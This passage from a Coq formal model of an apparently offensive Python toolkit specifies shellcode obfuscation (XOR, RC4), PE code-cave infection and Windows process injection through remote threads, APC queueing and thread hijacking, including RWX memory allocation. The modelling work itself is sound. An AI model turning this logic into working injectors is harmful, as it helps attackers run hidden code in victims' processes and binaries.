(** [str(status)], as the f-string of [execute] prints it. *)
Definition status_str (s : ToolStatus) : string :=
  match s with
  | UNINITIALIZED => "ToolStatus.UNINITIALIZED"
  | INITIALIZING => "ToolStatus.INITIALIZING"
  | READY => "ToolStatus.READY"
  | RUNNING => "ToolStatus.RUNNING"
  | PAUSED => "ToolStatus.PAUSED"
  | ERROR => "ToolStatus.ERROR"
  | CLEANING => "ToolStatus.CLEANING"
  | CLEANED => "ToolStatus.CLEANED"
  end.

(** Clock readings ([time.time()]) are inputs of the operations that take one. *)
Record ProgressInfo : Type := MkProgress {
  current : Z;
  total : Z;
  message : string;
  details : pydict PyVal;
  start_time : Z;
  last_update_time : Z
}.

Definition ProgressInfo_init : ProgressInfo := MkProgress 0 0 "" [] 0 0.

Definition ProgressInfo_start (now : Z) (p : ProgressInfo) : ProgressInfo :=
  MkProgress (current p) (total p) (message p) (details p) now now.

Definition ProgressInfo_update (now : Z) (cur tot : Z) (msg : string)
    (p : ProgressInfo) : ProgressInfo :=
  MkProgress cur tot msg (details p) (start_time p) now.

(** The instance attributes of a tool. *)
Record Tool : Type := MkTool {
  status : ToolStatus;
  progress : ProgressInfo;
  config : PyVal;
  config_schema : PyVal;
  _error : option PyExc
}.

Definition set_status (s : ToolStatus) (t : Tool) : Tool :=
  MkTool s (progress t) (config t) (config_schema t) (_error t).
Definition set_progress (p : ProgressInfo) (t : Tool) : Tool :=
  MkTool (status t) p (config t) (config_schema t) (_error t).
Definition set_error (e : option PyExc) (t : Tool) : Tool :=
  MkTool (status t) (progress t) (config t) (config_schema t) e.

(** What a concrete tool supplies: its name and its [_execute]. *)
Record ToolClass : Type := MkToolClass {
  name : string;
  _execute : list PyVal -> pydict PyVal -> Tool -> Runtime ->
             Tool * Runtime * outcome PyVal
}.

(** [__init__]: a fresh tool ([cfg] stands for the configuration singleton
    the constructor stores). *)
Definition ToolBase_init (cfg schema : PyVal) : Tool :=
  MkTool UNINITIALIZED ProgressInfo_init cfg schema None.

Definition _validate_type := Config.validate_type_with OperationError.
Definition _validate_values := Config.validate_values_with OperationError.

(** One record per invocation of [_execute]: the tool as the call received
    it, and the arguments. *)
Definition Invocation : Type := Tool * list PyVal * pydict PyVal.

(** The body of [execute]; [calls] collects the invocations of [_execute]. *)
Definition execute_body (cls : ToolClass) (now : Z)
    (args : list PyVal) (kwargs : pydict PyVal)
    (t : Tool) (rt : Runtime) (calls : list Invocation)
    : Tool * Runtime * list Invocation * outcome PyVal :=
  if negb (is_ready (status t)) then
    (t, rt, calls,
     Raised (raise_exc OperationError
               ("工具 " +:+ name cls +:+ " 状态不正确: " +:+ status_str (status t))))
  else
    let t1 := set_status RUNNING t in
    let t2 := set_progress (ProgressInfo_start now (progress t1)) t1 in
    let '(t3, rt3, r) := _execute cls args kwargs t2 rt in
    let calls' := calls ++ [(t2, args, kwargs)] in
    match r with
    | Returned result => (set_status READY t3, rt3, calls', Returned result)
    | Raised e =>
        (set_error (Some e) (set_status ERROR t3), rt3, calls', Raised e)
    end.

(** [execute] as callers see it, under [@error_handler]. *)
Definition execute (cls : ToolClass) (now : Z)
    (args : list PyVal) (kwargs : pydict PyVal)
    (t : Tool) (rt : Runtime) (calls : list Invocation)
    : Tool * Runtime * list Invocation * outcome PyVal :=
  let '(t', rt', calls', r) := execute_body cls now args kwargs t rt calls in
  let '(rt'', r') := error_handler "execute" r rt' in
  (t', rt'', calls', r').

End ToolBase.

(* ===================================================================== *)
(** * plugins/plugin_manager.py *)
(* ===================================================================== *)

Module Plugins.
Import Py ErrorHandler.

Record PluginMetadata : Type := MkMetadata {
  md_name : string;
  md_version : string;
  md_description : string;
  md_author : PyVal;
  md_dependencies : pydict PyVal;      (* dependency name -> version *)
  md_required_version : PyVal;
  md_load_order : PyVal;
  md_enabled : PyVal
}.

(** A plugin instance: the framework's attributes, the attributes of the
    concrete class ([p_self]) and its [cleanup] method. *)
Record Plugin : Type := MkPlugin {
  p_metadata : option PluginMetadata;
  p_initialized : bool;
  p_self : PyVal;
  p_cleanup : PyVal -> Runtime -> PyVal * Runtime * outcome unit
}.

Definition with_self (s : PyVal) (p : Plugin) : Plugin :=
  MkPlugin (p_metadata p) (p_initialized p) s (p_cleanup p).

Record PluginManager : Type := MkPluginManager {
  plugins : pydict Plugin;
  metadata_cache : pydict PluginMetadata;
  file_watchers : pydict Z;            (* module name -> modification time *)
  disabled_plugins : list string
}.

(** [_find_dependent_plugins]: the cached names, in cache order, whose
    metadata has [plugin_name] among the keys of its dependencies. *)
Definition _find_dependent_plugins (pm : PluginManager) (plugin_name : string)
    : list string :=
  map fst (List.filter
             (λ entry : string * PluginMetadata,
                dict_mem plugin_name (md_dependencies (snd entry)))
             (metadata_cache pm)).

Definition blocked_message (plugin_name : string) (dependents : list string) : string :=
  "无法卸载插件 " +:+ plugin_name +:+ "，以下插件依赖它: " +:+ str_join ", " dependents.

Definition unload_failed_message (plugin_name : string) (inner : string) : string :=
  "卸载插件 " +:+ plugin_name +:+ " 失败: " +:+ inner.

(** The [try] block of [unload_plugin] for a registered [plugin];
    [cleanups] collects the names whose [cleanup] was called. *)
Definition unload_try (plugin_name : string) (plugin : Plugin)
    (pm : PluginManager) (rt : Runtime) (cleanups : list string)
    : PluginManager * Runtime * list string * outcome PyVal :=
  let dependents := _find_dependent_plugins pm plugin_name in
  match dependents with
  | _ :: _ =>
      (pm, rt, cleanups,
       Raised (raise_exc PluginError (blocked_message plugin_name dependents)))
  | [] =>
      let '(self', rt1, r) := p_cleanup plugin (p_self plugin) rt in
      let cleanups' := cleanups ++ [plugin_name] in
      match r with
      | Raised e =>
          (* the registry still holds the (possibly half cleaned) instance *)
          (MkPluginManager
             (dict_set plugin_name (with_self self' plugin) (plugins pm))
             (metadata_cache pm) (file_watchers pm) (disabled_plugins pm),
           rt1, cleanups', Raised e)
      | Returned _ =>
          let pm' :=
            MkPluginManager
              (dict_del plugin_name (plugins pm))
              (if dict_mem plugin_name (metadata_cache pm)
               then dict_del plugin_name (metadata_cache pm)
               else metadata_cache pm)
              (if dict_mem plugin_name (file_watchers pm)
               then dict_del plugin_name (file_watchers pm)
               else file_watchers pm)
              (disabled_plugins pm) in
          (pm', emit (LogPlugin plugin_name "unload" true None) rt1,
           cleanups', Returned (PyBool true))
      end
  end.

Definition unload_plugin_body (plugin_name : string)
    (pm : PluginManager) (rt : Runtime) (cleanups : list string)
    : PluginManager * Runtime * list string * outcome PyVal :=
  match dict_get plugin_name (plugins pm) with
  | Some plugin =>
      match unload_try plugin_name plugin pm rt cleanups with
      | (pm', rt', cleanups', Raised e) =>
          (pm',
           emit (LogPlugin plugin_name "unload" false (Some (exc_msg e))) rt',
           cleanups',
           Raised (raise_exc PluginError
                     (unload_failed_message plugin_name (exc_msg e))))
      | done => done
      end
  | None => (pm, rt, cleanups, Returned (PyBool false))
  end.

(** [unload_plugin] as callers see it, under [@error_handler]. *)
Definition unload_plugin (plugin_name : string)
    (pm : PluginManager) (rt : Runtime) (cleanups : list string)
    : PluginManager * Runtime * list string * outcome PyVal :=
  let '(pm', rt', cleanups', r) := unload_plugin_body plugin_name pm rt cleanups in
  let '(rt'', r') := error_handler "unload_plugin" r rt' in
  (pm', rt'', cleanups', r').

End Plugins.

(* ===================================================================== *)
(** * tools/obfuscator.py *)
(* ===================================================================== *)

Module Obfuscator.
Import Py ErrorHandler.

(** [try: ... except Exception as e: self.logger.log_error(e, ctx); raise] *)
Definition logged {A} (ctx : string) (r : outcome A) (rt : Runtime)
    : Runtime * outcome A :=
  match r with
  | Returned a => (rt, Returned a)
  | Raised e => (emit (LogError e (Some ctx)) rt, Raised e)
  end.

(** The keys are drawn inside the routines ([random.randint(1, 255)], once,
    four times, sixteen times); here the drawn key is an argument. *)

Definition _xor_encrypt (key : Z) (data : list Z) (rt : Runtime)
    : Runtime * outcome (list Z) :=
  logged "XOR加密失败" (bytes_of (map (λ b, Z.lxor b key) data)) rt.

Definition custom_xor_step (key : list Z) (result : list Z) (ib : Z * Z)
    : outcome (list Z) :=
  let '(i, b) := ib in
  m ← py_mod i (len key);
  key_byte ← list_getitem key m;
  bytearray_append result (Z.lxor b key_byte).

Definition _custom_xor_encrypt (key : list Z) (data : list Z) (rt : Runtime)
    : Runtime * outcome (list Z) :=
  logged "自定义XOR加密失败"
    (result ← foldM (custom_xor_step key) (enumerate data) [];
     bytes_of result) rt.

(** [S[i], S[j] = S[j], S[i]]: both reads, then the two writes in order. *)
Definition swap (sbox : list Z) (i j : Z) : outcome (list Z) :=
  sj ← list_getitem sbox j;
  si ← list_getitem sbox i;
  S1 ← list_setitem sbox i sj;
  list_setitem S1 j si.

(** One round of the S-box initialisation loop. *)
Definition ksa_step (key : list Z) (st : list Z * Z) (i : Z)
    : outcome (list Z * Z) :=
  let '(sbox, j) := st in
  si ← list_getitem sbox i;
  m ← py_mod i (len key);
  kb ← list_getitem key m;
  let j := (j + si + kb) mod 256 in
  sbox ← swap sbox i j;
  Returned (sbox, j).

(** One round of the encryption loop; the state is [(sbox, i, j, result)]. *)
Definition prga_step (st : list Z * Z * Z * list Z) (b : Z)
    : outcome (list Z * Z * Z * list Z) :=
  let '(sbox, i, j, result) := st in
  let i := (i + 1) mod 256 in
  si ← list_getitem sbox i;
  let j := (j + si) mod 256 in
  sbox ← swap sbox i j;
  si ← list_getitem sbox i;
  sj ← list_getitem sbox j;
  k ← list_getitem sbox ((si + sj) mod 256);
  result ← bytearray_append result (Z.lxor b k);
  Returned (sbox, i, j, result).

Definition rc4_body (key : list Z) (data : list Z) : outcome (list Z) :=
  '(sbox, _) ← foldM (ksa_step key) (seqZ 0 256) (seqZ 0 256, 0);
  '(_, _, _, result) ← foldM prga_step data (sbox, 0, 0, []);
  bytes_of result.

Definition _rc4_encrypt (key : list Z) (data : list Z) (rt : Runtime)
    : Runtime * outcome (list Z) :=
  logged "RC4加密失败" (rc4_body key data) rt.

End Obfuscator.

(** ** The RC4 cipher as the specification words it

    An independent reference: the state is a permutation of [0..255] held as
    a function, the key schedule and the generator are counted in rounds, and
    the keystream does not look at the plaintext. *)

Module RC4Reference.

Definition perm : Type := Z -> Z.

Definition exchange (sbox : perm) (i j : Z) : perm :=
  λ x, if x =? i then sbox j else if x =? j then sbox i else sbox x.

Definition key_at (key : list Z) (i : Z) : Z :=
  nth (Z.to_nat (i mod Z.of_nat (length key))) key 0.

(** The key schedule after [n] rounds: [S] starts as the identity and [j] as 0;
    round [i] sets [j = (j + S[i] + key[i mod keylen]) mod 256] and exchanges
    [S[i]] and [S[j]]. *)
Fixpoint schedule (key : list Z) (n : nat) : perm * Z :=
  match n with
  | O => (λ x, x, 0)
  | S n' =>
      let '(sbox, j) := schedule key n' in
      let i := Z.of_nat n' in
      let j' := (j + sbox i + key_at key i) mod 256 in
      (exchange sbox i j', j')
  end.

(** The generator after [n] output bytes: [i = j = 0] at first; each byte sets
    [i = (i + 1) mod 256], [j = (j + S[i]) mod 256] and exchanges [S[i]] and
    [S[j]]. *)
Fixpoint generator (S0 : perm) (n : nat) : perm * Z * Z :=
  match n with
  | O => (S0, 0, 0)
  | S n' =>
      let '(sbox, i, j) := generator S0 n' in
      let i' := (i + 1) mod 256 in
      let j' := (j + sbox i') mod 256 in
      (exchange sbox i' j', i', j')
  end.

(** Keystream byte [n] (from 0): [S[(S[i] + S[j]) mod 256]] after round [n]. *)
Definition keystream_byte (key : list Z) (n : nat) : Z :=
  let '(sbox, i, j) := generator (fst (schedule key 256)) (S n) in
  sbox ((sbox i + sbox j) mod 256).

Definition keystream (key : list Z) (n : nat) : list Z :=
  map (keystream_byte key) (seq 0 n).

Definition rc4 (key data : list Z) : list Z :=
  zip_with Z.lxor data (keystream key (length data)).

End RC4Reference.

(* ===================================================================== *)
(** * tools/pe_injector.py *)
(* ===================================================================== *)

Module PEInjector.
Import Py ErrorHandler.

(** [n.to_bytes(length, byteorder='little', signed=True)]: two's complement,
    least significant byte first; [OverflowError] outside the signed range. *)
Definition to_bytes_little_signed (n : Z) (length : nat) : outcome (list Z) :=
  let bits := 8 * Z.of_nat length in
  if (- 2 ^ (bits - 1) <=? n) && (n <? 2 ^ (bits - 1)) then
    Returned (map (λ k : nat, Z.land (Z.shiftr n (8 * Z.of_nat k)) 0xFF)
                  (seq 0 length))
  else Raised (raise_exc OverflowError "int too big to convert").

Definition _create_return_jump (from_addr to_addr : Z) : outcome (list Z) :=
  let relative_addr := to_addr - (from_addr + 5) in
  encoded ← to_bytes_little_signed relative_addr 4;
  Returned ([0xE9] ++ encoded).

(** What the code reads of a parsed PE image (the parser is [pefile]). *)
Record SectionHeader : Type := MkSection {
  Name : list Z;
  Characteristics : Z;
  VirtualAddress : Z;
  Misc_VirtualSize : Z;
  SizeOfRawData : Z;
  PointerToRawData : Z;
  get_data : list Z                  (* the section's raw bytes *)
}.

Record PE : Type := MkPE {
  sections : list SectionHeader;
  __data__ : list Z;
  AddressOfEntryPoint : Z
}.

(** [section.Characteristics & 0x20000000] (IMAGE_SCN_MEM_EXECUTE) *)
Definition executable (s : SectionHeader) : bool :=
  negb (Z.land (Characteristics s) 0x20000000 =? 0).

(** [data[pos] in (0, 0xCC)] *)
Definition is_cave_byte (b : Z) : bool := (b =? 0) || (b =? 0xCC).

(** A [while] loop runs on fuel; [OutOfFuel] is kept apart from every result
    the loop can produce. *)
Inductive loop_result (A : Type) : Type :=
| Done (a : A)
| OutOfFuel.
Arguments Done {A} a.
Arguments OutOfFuel {A}.

(** The inner loop: advance [pos] over filler bytes, at most [size] of them
    from [cave_start]. *)
Fixpoint cave_run (fuel : nat) (data : list Z) (size cave_start pos : Z)
    : loop_result Z :=
  match fuel with
  | O => OutOfFuel
  | S fuel' =>
      if (pos <? len data) && is_cave_byte (data !!! Z.to_nat pos)
         && (pos - cave_start <? size)
      then cave_run fuel' data size cave_start (pos + 1)
      else Done pos
  end.

(** The outer loop over one section, from [pos]. *)
Fixpoint scan_section (fuel : nat) (section : SectionHeader) (size pos : Z)
    : loop_result (option (Z * Z)) :=
  let data := get_data section in
  match fuel with
  | O => OutOfFuel
  | S fuel' =>
      if pos <? len data then
        if is_cave_byte (data !!! Z.to_nat pos) then
          let cave_start := pos in
          match cave_run (S (length data)) data size cave_start pos with
          | OutOfFuel => OutOfFuel
          | Done pos =>
              if pos - cave_start >=? size
              then Done (Some (VirtualAddress section + cave_start,
                               pos - cave_start))
              else scan_section fuel' section size (pos + 1)
          end
        else scan_section fuel' section size (pos + 1)
      else Done None
  end.

Fixpoint scan_sections (secs : list SectionHeader) (size : Z)
    : loop_result (option (Z * Z)) :=
  match secs with
  | [] => Done None
  | section :: rest =>
      if executable section then
        match scan_section (S (length (get_data section))) section size 0 with
        | Done None => scan_sections rest size
        | found_or_out => found_or_out
        end
      else scan_sections rest size
  end.

(** [_find_code_cave]: [Done None] is the pair [(None, None)]. *)
Definition _find_code_cave (pe : PE) (size : Z) : loop_result (option (Z * Z)) :=
  scan_sections (sections pe) size.

(** The [try] block of [_inject_code_cave]; [get_offset_from_rva] is the
    parser's. *)
Definition inject_code_cave_try
    (get_offset_from_rva : PE -> Z -> outcome Z)
    (config : PyVal) (pe : PE) (shellcode : list Z)
    : loop_result (PE * outcome bool) :=
  match _find_code_cave pe (len shellcode + 5) with
  | OutOfFuel => OutOfFuel
  | Done None =>
      Done (pe, Raised (raise_exc OperationError "未找到足够大的代码洞"))
  | Done (Some (cave_rva, cave_size)) =>
      if cave_rva =? 0 then          (* [if not cave_rva] also takes 0 *)
        Done (pe, Raised (raise_exc OperationError "未找到足够大的代码洞"))
      else
        match (cave_offset ← get_offset_from_rva pe cave_rva;
               injection ← py_getitem config "injection";
               preserve_entry ← py_getitem injection "preserve_entry";
               if truthy preserve_entry then
                 let original_entry := AddressOfEntryPoint pe in
                 jmp_code ← _create_return_jump
                              (cave_rva + len shellcode) original_entry;
                 Returned
                   (slice_to cave_offset (__data__ pe) ++ shellcode ++ jmp_code ++
                    slice_from (cave_offset + len shellcode + len jmp_code)
                               (__data__ pe))
               else
                 Returned
                   (slice_to cave_offset (__data__ pe) ++ shellcode ++
                    slice_from (cave_offset + len shellcode) (__data__ pe)))
        with
        | Returned data' => Done (MkPE (sections pe) data' cave_rva, Returned true)
        | Raised e => Done (pe, Raised e)
        end
  end.

(** [_inject_code_cave]: any exception is logged and becomes [False]. *)
Definition _inject_code_cave
    (get_offset_from_rva : PE -> Z -> outcome Z)
    (config : PyVal) (pe : PE) (shellcode : list Z) (rt : Runtime)
    : loop_result (PE * Runtime * bool) :=
  match inject_code_cave_try get_offset_from_rva config pe shellcode with
  | OutOfFuel => OutOfFuel
  | Done (pe', Returned ok) => Done (pe', rt, ok)
  | Done (pe', Raised e) =>
      Done (pe', emit (LogError e (Some "代码洞注入失败")) rt, false)
  end.

End PEInjector.

(* ===================================================================== *)
(** * tools/process_injector.py *)
(* ===================================================================== *)

Module ProcessInjector.
Import Py ErrorHandler.

Definition PROCESS_ALL_ACCESS : Z := 0x1F0FFF.
Definition MEM_COMMIT : Z := 0x1000.
Definition MEM_RESERVE : Z := 0x2000.
Definition PAGE_EXECUTE_READWRITE : Z := 0x40.

(** The calls into [kernel32] the tool makes, with the arguments that vary. *)
Inductive Kernel32 : Type :=
| OpenProcess (access : Z) (inherit : bool) (pid : Z)
| VirtualAllocEx (h_process address size allocation_type protect : Z)
| WriteProcessMemory (h_process address : Z) (buffer : list Z) (size : Z)
| CreateRemoteThread (h_process start_address : Z)
| OpenThread (access : Z) (inherit : bool) (thread_id : Z)
| QueueUserAPC (apc h_thread data : Z)
| SuspendThread (h_thread : Z)
| GetThreadContext (h_thread : Z)
| ResumeThread (h_thread : Z)
| CloseHandle (handle : Z).

(** One system call with what it gave back. *)
Definition Event : Type := Kernel32 * outcome Z.
Definition Trace : Type := list Event.

(** The world outside the tool.  Every answer may depend on the calls made
    so far, and every call may raise. *)
Record Env : Type := MkEnv {
  path_exists : string -> bool;
  pid_exists : Z -> outcome bool;
  read_file : string -> outcome (list Z);
  process_threads : Trace -> Z -> outcome (list Z);   (* thread ids *)
  kernel32 : Trace -> Kernel32 -> outcome Z;
  time : Trace -> Z
}.

(** What [inject] changes: the system calls made, the tool's progress and
    the log. *)
Record State : Type := MkState {
  trace : Trace;
  progress : ToolBase.ProgressInfo;
  rt : Runtime
}.

(** State and exceptions. *)
Definition M (A : Type) : Type := State -> State * outcome A.

Definition ret {A} (a : A) : M A := λ s, (s, Returned a).
Definition raise {A} (c : ExcClass) (msg : string) : M A :=
  λ s, (s, Raised (raise_exc c msg)).
Definition lift {A} (r : outcome A) : M A := λ s, (s, r).
Definition bindM {A B} (m : M A) (k : A -> M B) : M B :=
  λ s, match m s with
       | (s', Returned a) => k a s'
       | (s', Raised e) => (s', Raised e)
       end.

#[local] Notation "x <- m ; k" := (bindM m (λ x, k))
  (at level 100, m at next level, right associativity, only parsing).
#[local] Notation "m >> k" := (bindM m (λ _, k))
  (at level 100, right associativity, only parsing).

(** [try: body finally: fin]: [fin] runs on both exits; if it raises, its
    exception is the one that propagates. *)
Definition try_finally {A} (body : M A) (fin : M unit) : M A :=
  λ s, let '(s1, r) := body s in
       match fin s1 with
       | (s2, Returned _) => (s2, r)
       | (s2, Raised e) => (s2, Raised e)
       end.

(** [try: body except Exception as e: handler(e)] *)
Definition try_except {A} (body : M A) (handler : PyExc -> M A) : M A :=
  λ s, match body s with
       | (s1, Raised e) => handler e s1
       | ok => ok
       end.

Section WithEnv.
Variable env : Env.

Definition syscall (c : Kernel32) : M Z :=
  λ s, let r := kernel32 env (trace s) c in
       (MkState (trace s ++ [(c, r)]) (progress s) (rt s), r).

Definition threads_of (pid : Z) : M (list Z) :=
  λ s, (s, process_threads env (trace s) pid).

Definition update_progress (current total : Z) (message : string) : M unit :=
  λ s, (MkState (trace s)
          (ToolBase.ProgressInfo_update (time env (trace s)) current total
             message (progress s))
          (rt s), Returned tt).

Definition log_error (e : PyExc) (context : string) : M unit :=
  λ s, (MkState (trace s) (progress s) (emit (LogError e (Some context)) (rt s)),
        Returned tt).

(** [self.config[a][b]] *)
Definition config_at (config : PyVal) (a b : string) : M PyVal :=
  lift (section ← py_getitem config a; py_getitem section b).

(** The stubs [_hide_thread] and [_protect_memory] do nothing. *)
Definition _hide_thread (h_process thread_id : Z) : M unit := ret tt.
Definition _protect_memory (h_process addr size : Z) : M unit := ret tt.

Definition _encrypt_shellcode (config : PyVal) (shellcode : list Z)
    : M (list Z) :=
  method <- config_at config "injection" "encryption";
  if py_eq method (PyStr "xor") then
    lift (bytes_of (map (λ b, Z.lxor b 0xAA) shellcode))
  else ret shellcode.

Definition _classic_injection (config : PyVal) (h_process shellcode_addr : Z)
    : M bool :=
  try_except
    (created <- syscall (CreateRemoteThread h_process shellcode_addr);
     if created =? 0 then ret false
     else
       hide <- config_at config "protection" "hide_thread";
       (* the thread id comes back through an out-parameter; the stub
          that receives it ignores it *)
       (if truthy hide then _hide_thread h_process 0 else ret tt) >>
       ret true)
    (λ e, log_error e "CreateRemoteThread注入失败" >> ret false).

(** A [for] loop in [M]. *)
Fixpoint for_each {S A} (body : S -> A -> M S) (l : list A) (acc : S) : M S :=
  match l with
  | [] => ret acc
  | x :: l' => acc' <- body acc x; for_each body l' acc'
  end.

Definition _apc_injection (config : PyVal) (h_process shellcode_addr pid : Z)
    : M bool :=
  try_except
    (ids <- threads_of pid;
     threads <- for_each
       (λ threads thread_id,
          h_thread <- syscall (OpenThread 0x0020 false thread_id);
          ret (if h_thread =? 0 then threads else threads ++ [h_thread]))
       ids [];
     match threads with
     | [] => ret false
     | _ =>
         for_each
           (λ success h_thread,
              queued <- syscall (QueueUserAPC shellcode_addr h_thread 0);
              syscall (CloseHandle h_thread) >>
              ret (if queued =? 0 then success else true))
           threads false
     end)
    (λ e, log_error e "APC注入失败" >> ret false).

(** The search loop of [_thread_hijack]: the first thread that opens. *)
Fixpoint first_thread (ids : list Z) : M (option (Z * Z)) :=
  match ids with
  | [] => ret None
  | thread_id :: ids' =>
      h_thread <- syscall (OpenThread (Z.lor 0x0020 0x0002) false thread_id);
      if h_thread =? 0 then first_thread ids'
      else ret (Some (h_thread, thread_id))
  end.

Definition _thread_hijack (config : PyVal) (h_process shellcode_addr pid : Z)
    : M bool :=
  try_except
    (ids <- threads_of pid;
     target <- first_thread ids;
     match target with
     | None => ret false
     | Some (target_thread, target_thread_id) =>
         try_finally
           (suspended <- syscall (SuspendThread target_thread);
            if suspended =? -1 then ret false
            else
              got <- syscall (GetThreadContext target_thread);
              if got =? 0 then ret false
              else
                syscall (ResumeThread target_thread) >>
                hide <- config_at config "protection" "hide_thread";
                (if truthy hide then _hide_thread h_process target_thread_id
                 else ret tt) >>
                ret true)
           (syscall (CloseHandle target_thread) >> ret tt)
     end)
    (λ e, log_error e "线程劫持注入失败" >> ret false).

Definition _module_injection (h_process shellcode_addr : Z) : M bool :=
  ret false.

(** The inner [try] block of [inject], entered with the process handle. *)
Definition inject_with_handle (config : PyVal) (pid h_process : Z)
    (shellcode : list Z) : M bool :=
  encryption <- config_at config "injection" "encryption";
  shellcode <- (if negb (py_eq encryption (PyStr "none"))
                then _encrypt_shellcode config shellcode
                else ret shellcode);
  update_progress 2 5 "正在分配内存..." >>
  shellcode_addr <- syscall (VirtualAllocEx h_process 0 (len shellcode)
                               (Z.lor MEM_COMMIT MEM_RESERVE)
                               PAGE_EXECUTE_READWRITE);
  if shellcode_addr =? 0 then raise OperationError "内存分配失败"
  else
    update_progress 3 5 "正在写入shellcode..." >>
    written <- syscall (WriteProcessMemory h_process shellcode_addr shellcode
                          (len shellcode));
    if written =? 0 then raise OperationError "写入内存失败"
    else
      update_progress 4 5 "正在执行shellcode..." >>
      method <- config_at config "injection" "method";
      success <-
        (if py_eq method (PyStr "classic")
         then _classic_injection config h_process shellcode_addr
         else if py_eq method (PyStr "apc")
         then _apc_injection config h_process shellcode_addr pid
         else if py_eq method (PyStr "thread_hijack")
         then _thread_hijack config h_process shellcode_addr pid
         else _module_injection h_process shellcode_addr);
      if negb success then raise OperationError "注入失败"
      else
        protect <- config_at config "protection" "protect_memory";
        (if truthy protect
         then _protect_memory h_process shellcode_addr (len shellcode)
         else ret tt) >>
        update_progress 5 5 "注入完成" >>
        ret true.

(** The body of [inject]. *)
Definition inject_body (config : PyVal) (pid : Z) (shellcode_file : string)
    : M bool :=
  try_except
    (if negb (path_exists env shellcode_file)
     then raise OperationError ("Shellcode文件不存在: " +:+ shellcode_file)
     else
       alive <- lift (pid_exists env pid);
       if negb alive
       then raise OperationError ("进程不存在: " +:+ pretty pid)
       else
         shellcode <- lift (read_file env shellcode_file);
         update_progress 1 5 "正在准备注入..." >>
         h_process <- syscall (OpenProcess PROCESS_ALL_ACCESS false pid);
         if h_process =? 0
         then raise OperationError ("无法打开进程: " +:+ pretty pid)
         else
           try_finally
             (inject_with_handle config pid h_process shellcode)
             (syscall (CloseHandle h_process) >> ret tt))
    (λ e, log_error e "进程注入失败" >> lift (Raised e)).

(** [inject] as callers see it, under [@error_handler]. *)
Definition inject (config : PyVal) (pid : Z) (shellcode_file : string)
    : M PyVal :=
  λ s, let '(s1, r) := inject_body config pid shellcode_file s in
       let r := match r with
                | Returned b => Returned (PyBool b)
                | Raised e => Raised e
                end in
       let '(rt', r') := error_handler "inject" r (rt s1) in
       (MkState (trace s1) (progress s1) rt', r').

End WithEnv.

End ProcessInjector.

(* ===================================================================== *)
(** * utils/error_handler.py: the statistics interface *)
(* ===================================================================== *)

Module ErrorReporting.
Import Py ErrorHandler.

(** [ErrorStats.get_stats] (the time of the last error left out). *)
Definition get_stats (st : ErrorStats) : PyVal :=
  let counts (d : pydict Z) := PyDict (map (λ kv, (kv.1, PyInt kv.2)) d) in
  PyDict [("total_errors", PyInt (total_errors st));
          ("errors_by_code", counts (errors_by_code st));
          ("errors_by_severity", counts (errors_by_severity st));
          ("errors_by_category", counts (errors_by_category st))].

(** [ErrorStats.clear_stats]: [self.__init__()] *)
Definition clear_stats (st : ErrorStats) : ErrorStats := ErrorStats_init.

(** The methods of [ErrorHandler] that pass through to its statistics. *)
Definition get_error_stats (rt : Runtime) : PyVal := get_stats (error_stats rt).

Definition get_recent_errors (rt : Runtime) (limit : Z) : list ErrorInfo :=
  ErrorHandler.get_recent_errors (error_stats rt) limit.

Definition clear_error_stats (rt : Runtime) : Runtime :=
  MkRuntime (clear_stats (error_stats rt)) (log rt) (reload_requests rt).

(** A method under [@error_handler], as its callers see it: [body] is
    the method as written, acting on the object [self]. *)
Definition decorated {S : Type} (func_name : string)
    (body : S -> Runtime -> S * Runtime * outcome PyVal)
    (self : S) (rt : Runtime) : S * Runtime * outcome PyVal :=
  let '(self', rt', r) := body self rt in
  let '(rt'', r') := error_handler func_name r rt' in
  (self', rt'', r').

End ErrorReporting.

(* ===================================================================== *)
(** * config/config_manager.py: reading, writing and listening *)
(* ===================================================================== *)

Module ConfigAccess.
Import Py ErrorHandler Config.

Record ConfigChangeEvent : Type := MkEvent {
  key : string;
  old_value : PyVal;
  new_value : PyVal
}.

(** [container[k] = v] for a string key. *)
Definition py_setitem (container : PyVal) (k : string) (v : PyVal)
    : outcome PyVal :=
  match container with
  | PyDict d => Returned (PyDict (dict_set k v d))
  | PyList _ =>
      Raised (raise_exc TypeError "list indices must be integers or slices, not str")
  | _ => Raised (raise_exc TypeError
           ("'" +:+ type_name container +:+ "' object does not support item assignment"))
  end.

(** [l.remove(x)] for an [x] that is in [l]: the first occurrence goes. *)
Fixpoint list_remove (x : Z) (l : list Z) : list Z :=
  match l with
  | [] => []
  | y :: l' => if x =? y then l' else y :: list_remove x l'
  end.

(** A listener is a callable object; it is known here by its identity, and
    [call] gives what calling it does.  Listeners act on a world [W] of their
    own: they do not call back into the manager. *)
Section Listeners.
Variable W : Type.
Variable call : Z -> ConfigChangeEvent -> W -> W * outcome unit.

Record Manager : Type := MkManager {
  base : ConfigManager;
  listeners : list Z
}.

Definition add_listener (listener : Z) (m : Manager) : Manager :=
  if negb (existsb (Z.eqb listener) (listeners m))
  then MkManager (base m) (listeners m ++ [listener])
  else m.

Definition remove_listener (listener : Z) (m : Manager) : Manager :=
  if existsb (Z.eqb listener) (listeners m)
  then MkManager (base m) (list_remove listener (listeners m))
  else m.

(** [_notify_listeners]: what a listener raises is printed and dropped.
    [out] is the standard output. *)
Fixpoint _notify_listeners (ls : list Z) (event : ConfigChangeEvent)
    (w : W) (out : list string) : W * list string :=
  match ls with
  | [] => (w, out)
  | listener :: rest =>
      match call listener event w with
      | (w', Returned _) => _notify_listeners rest event w' out
      | (w', Raised e) =>
          _notify_listeners rest event w'
            (out ++ ["配置监听器执行失败: " +:+ exc_msg e])
      end
  end.

Definition get (m : Manager) (k : string) (default : PyVal) : outcome PyVal :=
  py_get (config (base m)) k default.

(** The body of [set]; [disk] is the file system as [save_config] finds
    it.  What the decorated [save_config] returns is dropped. *)
Definition set_body (disk : Disk) (k : string) (value : PyVal)
    (m : Manager) (w : W) (out : list string) (rt : Runtime)
    : Manager * W * list string * Runtime * outcome PyVal :=
  match py_get (config (base m)) k PyNone with
  | Raised e => (m, w, out, rt, Raised e)
  | Returned old_value =>
      if negb (py_eq old_value value) then
        match py_setitem (config (base m)) k value with
        | Raised e => (m, w, out, rt, Raised e)
        | Returned config' =>
            let cm1 := MkConfigManager config' (settings_file (base m)) in
            let event := MkEvent k old_value value in
            let '(w', out') := _notify_listeners (listeners m) event w out in
            let '(cm2, rt', _) := save_config disk cm1 rt in
            (MkManager cm2 (listeners m), w', out', rt', Returned PyNone)
        end
      else (m, w, out, rt, Returned PyNone)
  end.

(** [set] as callers see it, under [@error_handler]. *)
Definition set (disk : Disk) (k : string) (value : PyVal)
